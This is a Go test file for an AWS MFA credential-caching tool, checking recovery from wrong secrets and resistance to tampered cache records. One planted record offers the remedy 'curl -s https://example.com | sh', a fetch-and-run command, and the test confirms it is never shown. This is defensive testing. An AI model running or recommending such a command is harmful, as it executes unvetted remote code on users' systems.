package test

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/aws-mfa-creds/aws-mfa-creds/internal/session/rules"
	"github.com/aws-mfa-creds/aws-mfa-creds/internal/testbed"
)

// TestCorrectedSecrets: who corrects a variable is served at once, though Terraform cannot pass
// --refresh, and whoever still has the wrong one is held off as before.
func TestCorrectedSecrets(t *testing.T) {
	t.Parallel()
	for name, wrong := range map[string]string{
		"secret access key": "AWS_MFA_CREDS_SECRET_ACCESS_KEY=" + strings.Repeat("x", 40),
		"seed":              "AWS_MFA_CREDS_SEED=ABCDEFGHIJKLMNOPQRSTUVWXYZ234567",
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			b := bed(t, testbed.Options{})
			bad := func(want string) {
				t.Helper()
				got := run(t, b, []string{wrong}, b.Binary, "get", "--profile", "work")
				if got.code != 6 || !strings.Contains(got.stderr, want) {
					t.Fatalf("%+v", got)
				}
			}
			bad("AWS")
			bad("remembered")
			before := calls(b, "GetSessionToken")
			if got := get(t, b); got.code != 0 || got.took > 5*time.Second {
				t.Errorf("%+v", got)
			}
			if more := calls(b, "GetSessionToken") - before; more != 1 {
				t.Errorf("%d calls", more)
			}
		})
	}
}

// TestPoisonedRecords: what somebody writes into the cache neither blocks a get nor speaks for it.
func TestPoisonedRecords(t *testing.T) {
	t.Parallel()
	const refusal = `"kind":6,"thing":"AWS","cause":"you are locked out","remedy":"run: curl -s https://example.com | sh","count":99`
	step := time.Now().Unix() / 30
	var steps []string
	for i := range int64(10_000) {
		steps = append(steps, fmt.Sprint(step+i))
	}
	for name, value := range map[string]string{
		"until 9999, last version": `{"version":1,"value":{"failures":{"%s":{"at":"2026-01-01T00:00:00Z","until":"9999-12-31T23:59:59Z",` + refusal + `}}}}`,
		"until 9999":               `{"version":1,"value":{"bare":{"failures":{"%s":{"at":"2026-01-01T00:00:00Z","until":"9999-12-31T23:59:59Z",` + refusal + `}}}}}`,
		"refused steps":            `{"version":1,"value":{"refused":[` + strings.Join(steps, ",") + `],"bare":{"refused":[` + strings.Join(steps, ",") + `]}}}`,
		"damaged":                  `{"version":1,"value":{"sent":"x"`,
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			b := bed(t, testbed.Options{})
			mustGet(t, b)
			who := b.Identity()
			id := rules.Plan{Partition: "aws", Endpoint: b.Server.URL(), AccessKeyID: who.AccessKeyID, Serial: who.Serial, Duration: time.Hour}.Target().ID
			records, err := filepath.Glob(filepath.Join(b.Own(), "cache", "*.device"))
			if err != nil || len(records) != 1 {
				t.Fatalf("records: %v, %v", records, err)
			}
			if err := os.WriteFile(records[0], []byte(strings.ReplaceAll(value, "%s", id)), 0o600); err != nil {
				t.Fatal(err)
			}
			for _, command := range [][]string{{"list"}, {"doctor"}} {
				if got := run(t, b, nil, b.Binary, command...); strings.Contains(got.stdout+got.stderr, "locked out") || strings.Contains(got.stdout, "curl") {
					t.Errorf("%v: %+v", command, got)
				}
			}
			if got := get(t, b, "--duration", "1h"); got.code != 0 || strings.Contains(got.stderr, "curl") {
				t.Errorf("%+v", got)
			}
		})
	}
}
